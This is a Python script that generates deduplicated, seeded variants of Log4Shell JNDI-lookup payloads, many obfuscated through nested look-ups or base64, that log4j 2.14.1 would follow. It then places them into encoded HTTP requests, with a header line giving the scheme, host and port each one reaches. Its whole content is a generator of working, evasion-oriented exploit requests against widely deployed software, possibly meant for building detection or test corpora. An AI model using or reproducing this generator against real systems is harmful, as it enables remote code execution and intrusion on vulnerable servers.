#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Writes requests that carry a JNDI look-up, every one of which log4j 2.14.1 would follow (log4j.py says so), with what
it leads to. The same seed gives the same bytes. One record: a line "class TAB place TAB encoding TAB scheme TAB host
TAB port TAB bytes", then the request, then a line feed; "text" prints the texts instead, JSON, one a line.

usage: variants.py COUNT SEED [text]"""
import base64, json, random, sys

import encode, grammar, log4j

OPENLY = {"plain", "own default", "base64"}  # all others spell a part of it by a look-up


def asked(kind, text):
    if kind != "base64":
        return log4j.asked_last(text)
    inside = text.partition(":")[2].rstrip("}")
    plain = base64.b64decode(inside + "=" * (-len(inside) % 4)).decode()
    return log4j.asked_last(plain if plain.startswith("${") else "${" + plain + "}")


def variants(count, seed):
    c = random.Random(seed)
    kinds, seen = sorted(grammar.KINDS), set()
    tried = refused = 0
    while len(seen) < count:
        tried += 1
        kind = kinds[tried % len(kinds)]
        c.fold = False
        text = grammar.KINDS[kind](c)
        hidden = kind in OPENLY or "${" in text[2:]
        name = asked(kind, text) if hidden and text not in seen and len(text) < 6000 else None
        found = log4j.target(name) if name else ("", "", 0)
        if not found[1] or any(ord(x) <= 32 for x in found[1]):
            refused += 1
            continue
        seen.add(text)
        yield kind, text, name, found
    print("variants: %d drawn, %d not hidden, not followed by log4j, or drawn before" % (tried, refused), file=sys.stderr)


def main():
    count, seed = int(sys.argv[1]), int(sys.argv[2])
    c = random.Random(seed + 1)
    for kind, text, name, (scheme, host, port) in variants(count, seed):
        if "text" in sys.argv[3:]:
            print(json.dumps({"class": kind, "text": text, "asked": name}))
            continue
        placed = None
        while not placed:
            placed = encode.place(c, text)
        head = (kind, placed[0], placed[1], scheme, host, port, len(placed[2]))
        sys.stdout.buffer.write("\t".join(map(str, head)).encode() + b"\n" + placed[2] + b"\n")


main()
